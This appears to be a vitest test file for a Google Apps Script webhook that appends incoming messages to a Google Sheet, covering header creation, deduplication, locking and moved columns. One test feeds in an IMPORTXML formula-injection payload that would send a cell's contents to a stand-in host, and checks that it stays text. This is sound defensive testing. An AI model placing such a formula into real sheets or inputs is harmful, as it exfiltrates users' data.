/** The program for a Google Sheet, on a stand-in that treats it as Google Apps Script does. */
import { readFile } from 'node:fs/promises'
import { join } from 'node:path'
import { runInNewContext } from 'node:vm'
import { expect, test } from 'vitest'

const program = await readFile(join(import.meta.dirname, '../../../src/server/webhooks/google-sheet.gs'), 'utf8')

/** As a sheet takes what is typed into a cell, or set by a program. */
function typed(value: string): unknown {
  if (value.startsWith("'")) return value.slice(1)
  if (/^[=+]/.test(value)) return { formula: value }
  return value
}

/** What happens beside an execution: when it has looked for the id, and when it has released its lock. */
type Beside = { looked?: () => void; released?: () => void }

function aGoogleSheet() {
  const rows: unknown[][] = []
  let isLocked = false

  /** One execution of the program. Others see what it writes when it flushes, or has ended. Throws what the program does. */
  function run(message: object, { looked, released }: Beside = {}): void {
    const unseen: (() => void)[] = []
    const flush = () => {
      for (const write of unseen.splice(0)) write()
    }
    const sheet = {
      getLastColumn: () => rows[0]?.length ?? 0,
      createTextFinder: (words: string) => ({
        matchEntireCell: () => ({
          findNext: () => {
            const found = rows.flat().includes(words) ? {} : null
            looked?.()
            return found
          },
        }),
      }),
      getRange: (row: number, column: number, height: number, width: number) => ({
        getValues: () =>
          rows.slice(row - 1, row - 1 + height).map((cells) => cells.slice(column - 1, column - 1 + width)),
        setValues: ([values = []]: string[][]) =>
          void unseen.push(() => (rows[row - 1] ??= []).splice(column - 1, width, ...values.map(typed))),
      }),
      appendRow: (values: string[]) => void unseen.push(() => rows.push(values.map(typed))),
    }
    const lock = {
      waitLock: () => {
        if (isLocked) throw new Error('Lock timeout: another process was holding the lock for too long.')
        isLocked = true
      },
      releaseLock: () => {
        isLocked = false
        released?.()
      },
    }
    const services = {
      LockService: { getScriptLock: () => lock },
      SpreadsheetApp: { getActive: () => ({ getSheets: () => [sheet] }), flush },
      ContentService: { createTextOutput: (output: string) => output },
    }
    runInNewContext(`${program}; doPost`, services)({ postData: { contents: JSON.stringify(message) } })
    flush()
  }
  return { rows, run }
}

const TIME = '2026-11-22T04:14:47.118Z'
const MESSAGE = { id: 'msg_1', timestamp: TIME, data: { name: 'Asha Rao', whatsapp: '+919876543210', ref: null } }

test('a message becomes a row of text below the names of its values', () => {
  const { rows, run } = aGoogleSheet()
  run(MESSAGE)
  expect(rows).toEqual([
    ['id', 'received_at', 'name', 'whatsapp', 'ref'],
    ['msg_1', TIME, 'Asha Rao', '+919876543210', ''],
  ])
})

test('a value that a sheet would run as a formula stays text', () => {
  const { rows, run } = aGoogleSheet()
  const name = '=IMPORTXML("https://evil.example/?"&B2,"//a")'
  run({ ...MESSAGE, data: { name } })
  expect(rows[1]).toEqual(['msg_1', TIME, name])
})

test('a message that comes again is left out, and another one added', () => {
  const { rows, run } = aGoogleSheet()
  for (const id of ['msg_1', 'msg_1', 'msg_2']) run({ ...MESSAGE, id })
  expect(rows).toHaveLength(3)
})

test.each<keyof Beside>(['looked', 'released'])('of two deliveries at once (%s) one adds a row', (moment) => {
  const { rows, run } = aGoogleSheet()
  let others = 0
  run(MESSAGE, {
    [moment]: () => {
      others += 1
      try {
        run(MESSAGE)
      } catch {}
    },
  })
  expect(others).toBe(1)
  expect(rows).toHaveLength(2)
})

test('columns that were moved get their own values, and those of the owner none', () => {
  const { rows, run } = aGoogleSheet()
  rows.push(['called by', 'name', 'id'])
  run(MESSAGE)
  expect(rows).toEqual([
    ['called by', 'name', 'id', 'received_at', 'whatsapp', 'ref'],
    ['', 'Asha Rao', 'msg_1', TIME, '+919876543210', ''],
  ])
})
